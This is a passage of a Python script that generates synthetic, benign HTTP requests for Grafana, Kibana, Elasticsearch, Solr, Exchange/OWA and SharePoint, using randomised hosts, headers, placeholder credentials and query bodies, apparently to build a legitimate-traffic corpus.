                      "for": "5m", "annotations": {"summary": "High error rate on {{ $labels.instance }}", "description": "{{ $value | humanizePercentage }} of requests failing for 5m", "runbook_url": "https://confluence.example.com/display/OPS/On-call+Runbook"},
                      "labels": {"severity": "page", "team": "checkout"}}]})
        return "POST", r.choice(H), "/api/ruler/grafana/api/v1/rules/%s?subtype=cortex" % alnum(r, 9), gh(r, "application/json"), body

    def t_avatar(r, i):
        return "GET", r.choice(H), "/avatar/%s" % hexs(r, 32), browser(r, "image/avif,image/webp,*/*", ck(r)), None

    def t_d(r, i):
        return "GET", r.choice(H), "/d/%s/%s?orgId=1&from=now-6h&to=now&var-namespace=prod&var-pod=All&refresh=30s" % (alnum(r, 9), r.choice(["kubernetes-pods", "checkout-slo", "node-exporter-full"])), browser(r, cookie=ck(r)), None

    def t_login(r, i):
        return "POST", r.choice(H), "/login", browser(r, ACCEPT_JSON, extra=[("Content-Type", "application/json")]), jdump({"user": uname(r), "password": alnum(r, 14)})

    def t_labels(r, i):
        return "GET", r.choice(H), "/api/datasources/uid/prom/resources/api/v1/labels?start=%d&end=%d" % (r.randint(1764000000, 1764500000), r.randint(1764500000, 1765000000)), gh(r), None

    def t_esquery(r, i):
        body = jdump({"queries": [{"refId": "A", "datasource": {"type": "elasticsearch", "uid": "es-logs"}, "query": r.choice(['kubernetes.namespace:"prod" AND NOT level:debug', 'message:"connection reset" OR message:"broken pipe"', 'http.status:[500 TO 599] AND service:checkout*']),
                                   "metrics": [{"type": "count", "id": "1"}], "bucketAggs": [{"type": "date_histogram", "id": "2", "field": "@timestamp", "settings": {"interval": "auto"}}], "timeField": "@timestamp"}], "from": ms(r), "to": ms(r)})
        return "POST", r.choice(H), "/api/ds/query?ds_type=elasticsearch", gh(r, "application/json"), body

    def t_sqlpanel(r, i):
        sql = r.choice(["SELECT $__timeGroupAlias(created_at, '1h'), count(*) AS orders FROM orders WHERE $__timeFilter(created_at) GROUP BY 1 ORDER BY 1",
                        "SELECT region AS metric, avg(latency_ms) AS value FROM checkout_stats WHERE $__timeFilter(ts) AND region IN ($region) GROUP BY region"])
        body = jdump({"queries": [{"refId": "A", "datasource": {"type": "grafana-postgresql-datasource", "uid": "pg-analytics"}, "rawSql": sql, "format": "time_series", "rawQuery": True}], "from": ms(r), "to": ms(r)})
        return "POST", r.choice(H), "/api/ds/query?ds_type=grafana-postgresql-datasource", gh(r, "application/json", [("X-Panel-Id", str(r.randint(1, 30)))]), body

    def t_ds(r, i):
        body = jdump({"name": "Prometheus (eu-1)", "type": "prometheus", "url": "http://prometheus-server.monitoring.svc.cluster.local:9090", "access": "proxy", "basicAuth": False, "jsonData": {"httpMethod": "POST", "timeInterval": "30s"}})
        return "POST", r.choice(H), "/api/datasources", gh(r, "application/json"), body

    run(o, "grafana", 38, [t_dash, t_query, t_loki, t_search, t_proxy, t_plugin, t_build, t_annot, t_save, t_metrics, t_prefs,
                           t_rule, t_avatar, t_d, t_login, t_labels, t_esquery, t_sqlpanel, t_ds, t_query], rng)


# ---- Kibana / Elasticsearch / Solr ----------------------------------------

def b_elastic(o):
    rng = R("b:kibana")
    HK = ["kibana.example.com", "logs.corp.example.net"]

    def kck(r):
        return "sid=Fe26.2**%s*%s*%s" % (hexs(r, 64), alnum(r, 22), alnum(r, 86))

    def kh(r, ct="application/json"):
        return browser(r, "*/*", kck(r), extra=[("Content-Type", ct), ("kbn-version", "8.15.3"), ("kbn-build-number", "77232"), ("x-elastic-internal-origin", "Kibana"), ("elastic-api-version", "1"), ("Origin", "https://kibana.example.com")])

    KQL = ['service.name : "checkout" and http.response.status_code >= 500',
           'not http.response.status_code : 200 and url.path : /api/*',
           'kubernetes.namespace : "prod" and (log.level : "error" or log.level : "fatal")',
           'user.name : "o\'brien" or user.email : *@example.com',
           'message : "connection refused" and not host.name : web-0*']

    def t_bsearch(r, i):
        body = jdump({"batch": [{"request": {"params": {"index": "logs-*", "body": {"size": 500, "sort": [{"@timestamp": {"order": "desc", "unmapped_type": "boolean"}}],
                      "query": {"bool": {"must": [], "filter": [{"multi_match": {"type": "best_fields", "query": r.choice(["checkout", "timeout", "OutOfMemoryError"]), "lenient": True}},
                                                               {"range": {"@timestamp": {"format": "strict_date_optional_time", "gte": "2026-12-05T08:00:00.000Z", "lte": "2026-12-05T09:00:00.000Z"}}}], "should": [], "must_not": []}},
                      "fields": [{"field": "*", "include_unmapped": "true"}], "highlight": {"pre_tags": ["@kibana-highlighted-field@"], "post_tags": ["@/kibana-highlighted-field@"], "fields": {"*": {}}, "fragment_size": 2147483647}}}},
                      "options": {"strategy": "ese", "isStored": False}}]})
        return "POST", r.choice(HK), "/internal/bsearch?compress=true", kh(r), body

    def t_find(r, i):
        return "GET", r.choice(HK), "/api/saved_objects/_find?type=dashboard&search_fields=title&search=%s&per_page=20" % Q(r.choice(["nginx*", "k8s pods", "checkout*"])), kh(r), None

    def t_savesearch(r, i):
        ss = jdump({"query": {"query": r.choice(KQL), "language": "kuery"}, "filter": [], "indexRefName": "kibanaSavedObjectMeta.searchSourceJSON.index"})
        body = jdump({"attributes": {"title": r.choice(["5xx by service", "Errors – prod", "Slow requests"]), "columns": ["service.name", "message"], "sort": [["@timestamp", "desc"]], "kibanaSavedObjectMeta": {"searchSourceJSON": ss}},
                      "references": [{"name": "kibanaSavedObjectMeta.searchSourceJSON.index", "type": "index-pattern", "id": uuid(r)}]})
        return "POST", r.choice(HK), "/api/saved_objects/search", kh(r), body

    def t_status(r, i):
        return "GET", r.choice(HK), "/api/status", [["User-Agent", "kube-probe/1.30"], ["Accept", "*/*"]], None

    def t_console(r, i):
        body = jdump({"query": {"bool": {"filter": [{"term": {"service.name": "checkout"}}, {"range": {"@timestamp": {"gte": "now-1h"}}}]}}, "aggs": {"by_status": {"terms": {"field": "http.response.status_code", "size": 10}}}, "size": 0})
        return "POST", r.choice(HK), "/api/console/proxy?path=%s&method=GET" % Q("logs-*/_search"), kh(r), body

    def t_shorturl(r, i):
        body = jdump({"locatorId": "DISCOVER_APP_LOCATOR", "params": {"query": {"language": "kuery", "query": r.choice(KQL)}, "timeRange": {"from": "now-15m", "to": "now"}, "refreshInterval": {"pause": True, "value": 60000}, "dataViewId": uuid(r)}})
        return "POST", r.choice(HK), "/api/short_url", kh(r), body

    def t_app(r, i):
        return "GET", r.choice(HK), "/app/%s" % r.choice(["discover", "dashboards", "observability/overview", "dev_tools"]), browser(r, cookie=kck(r)), None

    def t_me(r, i):
        return "GET", r.choice(HK), r.choice(["/internal/security/me", "/api/licensing/info", "/api/spaces/space", "/internal/security/session"]), kh(r), None

    def t_settings(r, i):
        return "POST", r.choice(HK), "/internal/kibana/settings", kh(r), jdump({"changes": {"theme:darkMode": r.choice([True, False]), "dateFormat:tz": "Europe/Berlin"}})

    def t_bundle(r, i):
        return "GET", r.choice(HK), "/77232/bundles/plugin/%s/1.0.0/%s.plugin.js" % (r.choice(["discover", "lens", "dashboard"]), r.choice(["discover", "lens", "dashboard"])), browser(r, "*/*", kck(r)), None

    run(o, "kibana", 24, [t_bsearch, t_find, t_savesearch, t_status, t_console, t_shorturl, t_app, t_me, t_settings, t_bundle, t_bsearch, t_savesearch], rng)

    rng = R("b:elasticsearch")
    HE = ["es.example.com:9200", "elasticsearch-master.logging.svc:9200"]

    def eh(r, ct=None):
        h = [["User-Agent", r.choice(["elasticsearch-py/8.15.1 (Python/3.12.7; elastic-transport/8.15.1)", "Go-http-client/1.1", "elasticsearch-java/8.15.2 (Java/21.0.5)", "Manticore 0.9.1"])],
             ["Accept", "application/vnd.elasticsearch+json; compatible-with=8"], ["Authorization", "ApiKey " + b64("%s:%s" % (alnum(r, 20), alnum(r, 22)))]]
        if ct:
            h.append(["Content-Type", ct])
        return h

    def e_search(r, i):
        body = jdump({"query": {"bool": {"must": [{"match": {"message": r.choice(["payment declined", "user logged in", "GET /api/orders"])}}], "filter": [{"term": {"kubernetes.namespace": "prod"}}, {"range": {"@timestamp": {"gte": "now-24h"}}}]}},
                      "aggs": {"per_hour": {"date_histogram": {"field": "@timestamp", "fixed_interval": "1h"}}}, "size": 20, "sort": [{"@timestamp": "desc"}]})
        return "POST", r.choice(HE), "/logs-app-2026.12.%02d/_search" % r.randint(1, 5), eh(r, "application/vnd.elasticsearch+json; compatible-with=8"), body

    def e_cat(r, i):
        return "GET", r.choice(HE), r.choice(["/_cat/indices?v&s=index&h=index,docs.count,store.size", "/_cat/shards?v&h=index,shard,prirep,state,unassigned.reason", "/_cat/nodes?v&h=name,heap.percent,cpu,load_1m"]), eh(r), None

    def e_health(r, i):
        return "GET", r.choice(HE), "/_cluster/health?wait_for_status=yellow&timeout=50s", [["User-Agent", "curl/8.5.0"], ["Accept", "*/*"]], None

    def e_bulk(r, i):
        lines = []
        for k in range(3):
            lines.append(jdump({"create": {"_index": "logs-app-default"}}))
            lines.append(jdump({"@timestamp": "2026-12-05T08:%02d:%02d.%03dZ" % (r.randint(0, 59), r.randint(0, 59), r.randint(0, 999)),
                                "message": r.choice(['10.2.3.4 - - "GET /api/orders?id=5&expand=items HTTP/1.1" 200 512 "-" "okhttp/4.12.0"',
                                                     "user %s logged in from 10.0.4.17" % uname(r), "order %d shipped via DHL" % r.randint(10000, 99999),
                                                     'WARN retrying request to payments-api (attempt 2/5): context deadline exceeded']),
                                "log": {"level": r.choice(["info", "warn"])}, "kubernetes": {"namespace": "prod", "pod": {"name": "api-%s" % alnum(r, 5).lower()}}}))
        return "POST", r.choice(HE), "/_bulk", [["User-Agent", "Elastic-Filebeat/8.15.3 (linux; amd64; 5b2ba6c; 2024-10-09 15:12:29 +0000 UTC)"], ["Accept", "application/json"], ["Content-Type", "application/x-ndjson"], ["Authorization", "ApiKey " + b64(alnum(r, 20) + ":" + alnum(r, 22))]], "\n".join(lines) + "\n"

    def e_qs(r, i):
        return "GET", r.choice(HE), "/products/_search?q=%s&size=10" % Q(r.choice(['title:"usb-c hub" AND price:<50', 'brand:(Lenovo OR Dell) AND -refurbished', "name:O'Neill*"])), eh(r), None

    def e_template(r, i):
        body = jdump({"index_patterns": ["logs-app-*"], "template": {"settings": {"number_of_shards": 2, "index.lifecycle.name": "logs-30d"}, "mappings": {"properties": {"@timestamp": {"type": "date"}, "message": {"type": "text"}, "http": {"properties": {"status": {"type": "short"}}}}}}, "priority": 200})
        return "PUT", r.choice(HE), "/_index_template/logs-app", eh(r, "application/json"), body

    def e_ubq(r, i):
        body = jdump({"script": {"source": "ctx._source.status = params.status", "lang": "painless", "params": {"status": "archived"}}, "query": {"range": {"created_at": {"lt": "now-2y"}}}})
        return "POST", r.choice(HE), "/orders/_update_by_query?conflicts=proceed&wait_for_completion=false", eh(r, "application/json"), body

    def e_nodes(r, i):
        return "GET", r.choice(HE), "/_nodes/stats/jvm,os,fs", eh(r), None

    def e_doc(r, i):
        body = jdump({"sku": "AB-%d" % r.randint(1000, 9999), "title": r.choice(["Men's trail running shoe", "USB-C hub (7-in-1)", "Kids' rain jacket"]), "description": "Lightweight & breathable. Fits true to size; 30-day returns.", "price": round(r.uniform(9, 200), 2), "tags": ["sale", "outdoor"]})
        return "PUT", r.choice(HE), "/products/_doc/%d" % r.randint(1, 99999), eh(r, "application/json"), body

    def e_scroll(r, i):
        return "POST", r.choice(HE), "/_search/scroll", eh(r, "application/json"), jdump({"scroll": "1m", "scroll_id": "FGluY2x1ZGVfY29udGV4dF91dWlkDXF1ZXJ5QW5kRmV0Y2gBFk" + alnum(r, 40)})

    def e_msearch(r, i):
        body = "\n".join([jdump({"index": "products"}), jdump({"query": {"match": {"title": "jacket"}}, "size": 5}), jdump({"index": "products"}), jdump({"query": {"term": {"tags": "sale"}}, "size": 5})]) + "\n"
        return "POST", r.choice(HE), "/_msearch", eh(r, "application/x-ndjson"), body

    def e_sql(r, i):
        return "POST", r.choice(HE), "/_sql?format=txt", eh(r, "application/json"), jdump({"query": "SELECT status, COUNT(*) AS n FROM \"orders\" WHERE created_at > NOW() - INTERVAL 1 DAY GROUP BY status ORDER BY n DESC"})

    run(o, "elasticsearch", 24, [e_search, e_cat, e_health, e_bulk, e_qs, e_template, e_ubq, e_nodes, e_doc, e_scroll, e_msearch, e_sql], rng)

    rng = R("b:solr")
    HS = ["solr.example.com:8983", "search.corp.example.net"]

    def sh(r):
        return [["User-Agent", r.choice(["Solr[org.apache.solr.client.solrj.impl.HttpSolrClient] 1.0", "python-requests/2.32.3", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"])], ["Accept", "application/json"]]

    SQ = [[("q", "title:(laptop AND ssd)"), ("fq", "price:[500 TO 1000]"), ("sort", "score desc"), ("rows", "20"), ("wt", "json"), ("facet", "true"), ("facet.field", "brand")],
          [("defType", "edismax"), ("q", "wireless headphones"), ("qf", "title^2 description"), ("mm", "2<75%"), ("pf", "title^5"), ("rows", "24")],
          [("q", "*:*"), ("fq", "{!geofilt sfield=location pt=52.37,4.89 d=5}"), ("sort", "geodist(location,52.37,4.89) asc"), ("fl", "id,name,score,_dist_:geodist()")],
          [("q", "jacket"), ("fq", "{!tag=brandFilter}brand:Patagonia"), ("facet", "true"), ("facet.field", "{!ex=brandFilter}brand"), ("facet.mincount", "1")],
          [("q", "description:waterproof"), ("hl", "true"), ("hl.fl", "description"), ("hl.simple.pre", "<em>"), ("hl.simple.post", "</em>")],
          [("q", "{!term f=sku}AB-123-X"), ("wt", "json")],
          [("q", "*:*"), ("fq", 'category:"Kids\' Toys"'), ("rows", "50"), ("start", "100")],
          [("q", 'message:"connection refused"'), ("fq", "timestamp:[NOW-1DAY TO NOW]"), ("sort", "timestamp desc")],
          [("q", "name:O'Neill~1 OR name:ONeil"), ("fl", "id,name"), ("wt", "json")],
          [("q", "title:\"4K monitor\" -refurbished"), ("stats", "true"), ("stats.field", "price"), ("rows", "0")]]

    def s_select(r, i):
        core = r.choice(["products", "catalog", "logs"])
        return "GET", r.choice(HS), "/solr/%s/select?%s" % (core, qs(SQ[i % len(SQ)], plus=r.random() < 0.5)), sh(r), None

    def s_update(r, i):
        docs = [{"id": "SKU-%d" % r.randint(1000, 9999), "title": r.choice(["Trail shoe", "USB-C cable 2m", "Rain jacket"]), "price": round(r.uniform(5, 300), 2), "brand": r.choice(["Acme", "Contoso"]), "inStock": True}]
        return "POST", r.choice(HS), "/solr/products/update?commit=true&wt=json", sh(r) + [["Content-Type", "application/json"]], jdump(docs)

    def s_update_xml(r, i):
        xml = '<add><doc><field name="id">SKU-%d</field><field name="title">Kids&apos; rain boots</field><field name="description">Non-slip sole &amp; reflective trim</field><field name="price">24.99</field></doc></add>' % r.randint(1000, 9999)
        return "POST", r.choice(HS), "/solr/products/update?commitWithin=5000", sh(r) + [["Content-Type", "text/xml; charset=utf-8"]], xml

    def s_admin(r, i):
        return "GET", r.choice(HS), r.choice(["/solr/admin/cores?action=STATUS&wt=json", "/solr/admin/info/system?wt=json", "/solr/products/admin/ping?wt=json", "/solr/admin/collections?action=CLUSTERSTATUS&wt=json"]), sh(r), None

    def s_suggest(r, i):
        return "GET", r.choice(HS), "/solr/products/suggest?suggest=true&suggest.dictionary=titleSuggester&suggest.q=%s&wt=json" % Q(r.choice(["lapt", "rain j", "usb-"])), sh(r), None

    def s_json(r, i):
        body = jdump({"query": "title:phone", "filter": ["inStock:true", "price:[* TO 500]"], "limit": 20, "facet": {"brands": {"type": "terms", "field": "brand", "limit": 10}}})
        return "POST", r.choice(HS), "/solr/products/query", sh(r) + [["Content-Type", "application/json"]], body

    run(o, "solr", 20, [s_select, s_select, s_select, s_update, s_admin, s_suggest, s_json, s_select, s_update_xml, s_select], rng)


# ---- Exchange / OWA / SharePoint -----------------------------------------

def b_microsoft(o):
    rng = R("b:exchange")
    H = ["mail.example.com", "owa.corp.example.net"]

    def ock(r):
        return "X-BackEndCookie=S-1-5-21-%s-%s-%s-%d=%s; ClientId=%s; X-OWA-CANARY=%s; cadata=%s; UC=%s" % (
            digits(r, 10), digits(r, 10), digits(r, 9), r.randint(1000, 9999), alnum(r, 60), hexs(r, 32).upper(), alnum(r, 76), alnum(r, 120), hexs(r, 32))

    def oh(r, action=None, ct="application/json; charset=utf-8"):
        ex = [("X-Requested-With", "XMLHttpRequest"), ("X-OWA-CANARY", alnum(r, 76)), ("X-OWA-ClientBuildVersion", "15.2.1544.11"), ("Content-Type", ct)]
        if action:
            ex += [("Action", action), ("X-OWA-ActionName", action), ("X-OWA-ActionId", str(-r.randint(1, 60)))]
        return browser(r, "*/*", ock(r), extra=ex)

    def t_logon(r, i):
        return "GET", r.choice(H), "/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.example.com%2fowa%2f", browser(r), None

    def t_auth(r, i):
        body = form([("destination", "https://mail.example.com/owa/"), ("flags", "4"), ("forcedownlevel", "0"), ("username", "CORP\\%s" % uname(r)), ("password", alnum(r, 14)), ("passwordText", ""), ("isUtf8", "1")])
        return "POST", r.choice(H), "/owa/auth.owa", browser(r, cookie="PrivateComputer=true; PBack=0", extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", "https://mail.example.com")]), body

    def t_getitem(r, i):
        body = jdump({"__type": "GetItemJsonRequest:#Exchange", "Header": {"__type": "JsonRequestHeaders:#Exchange", "RequestServerVersion": "V2018_01_08", "TimeZoneContext": {"__type": "TimeZoneContext:#Exchange", "TimeZoneDefinition": {"__type": "TimeZoneDefinitionType:#Exchange", "Id": "W. Europe Standard Time"}}},
                      "Body": {"__type": "GetItemRequest:#Exchange", "ItemShape": {"__type": "ItemResponseShape:#Exchange", "BaseShape": "IdOnly"}, "ItemIds": [{"__type": "ItemId:#Exchange", "Id": "AAMkA" + alnum(r, 140) + "="}], "ShapeName": "ItemNormalizedBody"}})
        return "POST", r.choice(H), "/owa/service.svc?action=GetItem&EP=1&ID=-%d&AC=1" % r.randint(1, 90), oh(r, "GetItem"), body

    def t_finditem(r, i):
        body = jdump({"__type": "FindItemJsonRequest:#Exchange", "Header": {"__type": "JsonRequestHeaders:#Exchange", "RequestServerVersion": "V2018_01_08"},
                      "Body": {"__type": "FindItemRequest:#Exchange", "ItemShape": {"__type": "ItemResponseShape:#Exchange", "BaseShape": "IdOnly"}, "ParentFolderIds": [{"__type": "DistinguishedFolderId:#Exchange", "Id": "inbox"}], "Traversal": "Shallow",
                               "Paging": {"__type": "IndexedPageView:#Exchange", "BasePoint": "Beginning", "Offset": 0, "MaxEntriesReturned": 25}, "QueryString": r.choice([None, "from:o'brien subject:invoice", "hasattachments:yes budget"])}})
        return "POST", r.choice(H), "/owa/service.svc?action=FindItem&EP=1&ID=-%d&AC=1" % r.randint(1, 90), oh(r, "FindItem"), body

    def t_createitem(r, i):
        f, l = person(r)
        html = '<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body><div style="font-family: Calibri, Arial, sans-serif; font-size: 11pt;">Hi %s,<br><br>Please find the Q4 forecast attached &ndash; numbers are in <b>EUR</b>.<br>Let me know if anything looks off.<br><br>Thanks,<br>%s</div></body></html>' % (f, r.choice(FIRST))
        body = jdump({"__type": "CreateItemJsonRequest:#Exchange", "Header": {"__type": "JsonRequestHeaders:#Exchange", "RequestServerVersion": "V2018_01_08"},
                      "Body": {"__type": "CreateItemRequest:#Exchange", "Items": [{"__type": "Message:#Exchange", "Subject": "Q4 forecast", "Body": {"__type": "BodyContentType:#Exchange", "BodyType": "HTML", "Value": html},
                               "ToRecipients": [{"Name": "%s %s" % (f, l), "EmailAddress": "%s@example.com" % uname(r), "RoutingType": "SMTP"}]}], "MessageDisposition": "SendAndSaveCopy"}})
        return "POST", r.choice(H), "/owa/service.svc?action=CreateItem&EP=1&ID=-%d&AC=1" % r.randint(1, 90), oh(r, "CreateItem"), body

    def t_autodiscover_xml(r, i):
        body = ('<?xml version="1.0" encoding="utf-8"?><Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006"><Request><EMailAddress>%s@example.com</EMailAddress>'
                '<AcceptableResponseSchema>http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a</AcceptableResponseSchema></Request></Autodiscover>') % uname(r)
        return "POST", "autodiscover.example.com", "/autodiscover/autodiscover.xml", [["User-Agent", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17928; Pro)"], ["Accept", "*/*"], ["Content-Type", "text/xml"], ["Authorization", "NTLM TlRMTVNTUAADAAAAGAAYAH" + alnum(r, 120)]], body

    def t_autodiscover_json(r, i):
        return "GET", "autodiscover.example.com", "/autodiscover/autodiscover.json/v1.0/%s@example.com?Protocol=%s&RedirectCount=1" % (uname(r), r.choice(["ActiveSync", "Ews", "Rest"])), [["User-Agent", "Outlook-iOS/723.4027091.prod.iphone (4.2435.0)"], ["Accept", "application/json"]], None

    def t_ews(r, i):
        body = ('<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:t="http://schemas.microsoft.com/exchange/services/2006/types" xmlns:m="http://schemas.microsoft.com/exchange/services/2006/messages">'
                '<soap:Header><t:RequestServerVersion Version="Exchange2016" /></soap:Header><soap:Body><m:FindItem Traversal="Shallow"><m:ItemShape><t:BaseShape>IdOnly</t:BaseShape></m:ItemShape>'
                '<m:CalendarView StartDate="2026-12-01T00:00:00Z" EndDate="2026-12-31T23:59:59Z" MaxEntriesReturned="100" /><m:ParentFolderIds><t:DistinguishedFolderId Id="calendar" /></m:ParentFolderIds></m:FindItem></soap:Body></soap:Envelope>')
        return "POST", r.choice(H), "/EWS/Exchange.asmx", [["User-Agent", r.choice(["ExchangeServicesClient/15.00.0913.015", "MacOutlook/16.91.24111020 (Intelx64 Mac OS X 15.1.1)"])], ["Accept", "text/xml"], ["Content-Type", "text/xml; charset=utf-8"], ["Authorization", "Basic " + b64("%s@example.com:%s" % (uname(r), alnum(r, 12)))]], body

    def t_eas(r, i):
        return "OPTIONS", r.choice(H), "/Microsoft-Server-ActiveSync?Cmd=Options&User=%s&DeviceId=%s&DeviceType=iPhone" % (uname(r), hexs(r, 32).upper()), [["User-Agent", "Apple-iPhone15C2/2201.100"], ["MS-ASProtocolVersion", "16.1"], ["Authorization", "Basic " + b64("CORP\\%s:%s" % (uname(r), alnum(r, 12)))]], None

    def t_attach(r, i):
        return "GET", r.choice(H), "/owa/service.svc/s/GetFileAttachment?id=%s&X-OWA-CANARY=%s" % (Q("AAMkA" + alnum(r, 120) + "="), alnum(r, 76)), browser(r, "*/*", ock(r)), None

    def t_ecp(r, i):
        return "GET", r.choice(H), "/ecp/?rfr=owa&p=%s" % Q(r.choice(["PersonalSettings/Password.aspx", "Customize/Automatic Replies.slab", "Organize/InboxRules.slab"])), browser(r, cookie=ock(r)), None

    def t_photo(r, i):
        return "GET", r.choice(H), "/owa/service.svc/s/GetPersonaPhoto?email=%s&UA=0&size=HR64x64" % Q("%s@example.com" % uname(r)), browser(r, "image/avif,image/webp,*/*", ock(r)), None

    def t_static(r, i):
        return "GET", r.choice(H), "/owa/prem/15.2.1544.11/resources/styles/0/%s" % r.choice(["owafont_vlarge.css", "boot.worldwide.0.mouse.css"]), browser(r, "text/css,*/*;q=0.1", ock(r)), None

    def t_ev(r, i):
        return "POST", r.choice(H), "/owa/ev.owa2?ns=PendingRequest&ev=PendingNotificationRequest&UA=0&cid=%s&X-OWA-CANARY=%s" % (uuid(r), alnum(r, 76)), oh(r), ""

    run(o, "exchange", 30, [t_logon, t_auth, t_getitem, t_finditem, t_createitem, t_autodiscover_xml, t_autodiscover_json, t_ews, t_eas, t_attach, t_ecp, t_photo, t_static, t_ev, t_finditem], rng)

    rng = R("b:sharepoint")
    HS = ["sharepoint.example.com", "intranet.corp.example.net"]

    def sck(r):
        return "FedAuth=77u/PD94bWwgdmVyc2lvbj0iMS4wIiBlbmNvZGluZz0idXRmLTgiPz48U1A+%s; rtFa=%s" % (alnum(r, 120), alnum(r, 80))

    def sph(r, ct=None, verbose=True):
        ex = [("X-RequestDigest", "0x%s,05 Dec 2026 09:12:44 -0000" % hexs(r, 128).upper())]
        if ct:
            ex.append(("Content-Type", ct))
        return browser(r, "application/json;odata=verbose" if verbose else "application/json;odata=nometadata", sck(r), extra=ex)

    SITE = ["/sites/hr", "/sites/finance", "/sites/it-service-desk", "/sites/marketing"]

    def p_items(r, i):
        return "GET", r.choice(HS), "%s/_api/web/lists/getbytitle('%s')/items?$select=Title,Modified,Editor/Title&$expand=Editor&$filter=%s&$top=100&$orderby=Modified%%20desc" % (
            r.choice(SITE), r.choice(["Documents", "Announcements", "Tasks"]), Q("Modified ge datetime'2026-01-01T00:00:00Z' and Status ne 'Closed'", safe="'")), sph(r), None

    def p_csom(r, i):
        body = ('<Request xmlns="http://schemas.microsoft.com/sharepoint/clientquery/2009" SchemaVersion="15.0.0.0" LibraryVersion="16.0.0.0" ApplicationName="Javascript Library"><Actions><ObjectPath Id="1" ObjectPathId="0" />'
                '<Query Id="2" ObjectPathId="0"><Query SelectAllProperties="false"><Properties><Property Name="Title" ScalarProperty="true" /><Property Name="ServerRelativeUrl" ScalarProperty="true" /></Properties></Query></Query></Actions>'
                '<ObjectPaths><StaticProperty Id="0" TypeId="{3747adcd-a3c3-41b9-bfab-4a64dd2f1e0a}" Name="Current" /></ObjectPaths></Request>')
        return "POST", r.choice(HS), "%s/_vti_bin/client.svc/ProcessQuery" % r.choice(SITE), sph(r, "text/xml"), body

    def p_ctx(r, i):
        return "POST", r.choice(HS), "%s/_api/contextinfo" % r.choice(SITE), sph(r, "application/json;odata=verbose"), ""

    def p_allitems(r, i):
        s = r.choice(SITE)
        return "GET", r.choice(HS), "%s/Shared%%20Documents/Forms/AllItems.aspx?RootFolder=%s&FolderCTID=0x012000%s" % (s, Q("%s/Shared Documents/%s" % (s, r.choice(["Policies", "2026/Q4", "Templates & Forms"]))), hexs(r, 32).upper()), browser(r, cookie=sck(r)), None

    def p_caml(r, i):
        body = ('<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetListItems xmlns="http://schemas.microsoft.com/sharepoint/soap/"><listName>Tasks</listName>'
                '<query><Query><Where><And><Eq><FieldRef Name="Status"/><Value Type="Text">Open</Value></Eq><Geq><FieldRef Name="DueDate"/><Value Type="DateTime"><Today/></Value></Geq></And></Where><OrderBy><FieldRef Name="DueDate" Ascending="TRUE"/></OrderBy></Query></query>'
                '<viewFields><ViewFields><FieldRef Name="Title"/><FieldRef Name="AssignedTo"/></ViewFields></viewFields><rowLimit>100</rowLimit></GetListItems></soap:Body></soap:Envelope>')
        return "POST", r.choice(HS), "%s/_vti_bin/Lists.asmx" % r.choice(SITE), [["User-Agent", "Mozilla/4.0 (compatible; MSIE 6.0; MS Web Services Client Protocol 4.0.30319.42000)"], ["Content-Type", "text/xml; charset=utf-8"], ["SOAPAction", '"http://schemas.microsoft.com/sharepoint/soap/GetListItems"'], ["Authorization", "NTLM TlRMTVNTUAADAAAA" + alnum(r, 100)]], body

    def p_download(r, i):
        s = r.choice(SITE)
        return "GET", r.choice(HS), "/_layouts/15/download.aspx?SourceUrl=%s" % Q("%s/Shared Documents/%s" % (s, r.choice(["Handbook 2026.pdf", "Q4 plan (draft).docx", "Org chart.vsdx"]))), browser(r, cookie=sck(r)), None

    def p_search(r, i):
        return "GET", r.choice(HS), "/_api/search/query?querytext=%s&selectproperties=%s&rowlimit=50" % (Q("'%s'" % r.choice(["budget AND FileType:xlsx", "holiday policy", "\"expense report\" author:O'Brien"]), safe="'"), Q("'Title,Path,Author'", safe="'")), sph(r), None

    def p_announce(r, i):
        body = jdump({"__metadata": {"type": "SP.Data.AnnouncementsListItem"}, "Title": r.choice(["Office closed on 24 Dec", "New expense tool goes live", "Fire drill – Thursday 10:00"]),
                      "Body": "<div class=\"ExternalClass\"><p>Hi all,</p><p>The office will be closed on <strong>24 December</strong>. Remote access (VPN, Citrix) stays available.</p><p>&#8211; Facilities</p></div>", "Expires": "2026-12-31T00:00:00Z"})
        return "POST", r.choice(HS), "%s/_api/web/lists/getbytitle('Announcements')/items" % r.choice(SITE), sph(r, "application/json;odata=verbose"), body

    def p_photo(r, i):
        return "GET", r.choice(HS), "/_layouts/15/userphoto.aspx?size=S&accountname=%s" % Q("%s@example.com" % uname(r)), browser(r, "image/avif,image/webp,*/*", sck(r)), None

    def p_page(r, i):
        return "GET", r.choice(HS), "%s/SitePages/%s" % (r.choice(SITE), r.choice(["Home.aspx", "Onboarding.aspx", "IT-FAQ.aspx"])), browser(r, cookie=sck(r)), None

    def p_odata(r, i):
        return "GET", r.choice(HS), "%s/_vti_bin/ListData.svc/Documents?$filter=%s&$orderby=Modified%%20desc" % (r.choice(SITE), Q("startswith(Title,'Q4') and Size gt 1024", safe="'")), sph(r, verbose=False), None

    def p_upload(r, i):
        s = r.choice(SITE)
        return "POST", r.choice(HS), "%s/_api/web/GetFolderByServerRelativeUrl('%s')/Files/add(url='%s',overwrite=true)" % (s, Q("%s/Shared Documents" % s), Q(r.choice(["meeting-notes-2026-12-04.txt", "agenda.txt"]))), sph(r, "text/plain"), "Agenda\n1. Budget review\n2. Hiring plan (2 FTE)\n3. AOB\n"

    run(o, "sharepoint", 25, [p_items, p_csom, p_ctx, p_allitems, p_caml, p_download, p_search, p_announce, p_photo, p_page, p_odata, p_upload], rng)


# ---- WordPress / Magento / Drupal -----------------------------------------

def b_cms(o):
    rng = R("b:wordpress")
    H = ["blog.example.com", "www.example.org", "news.example.net"]

    def wck(r):
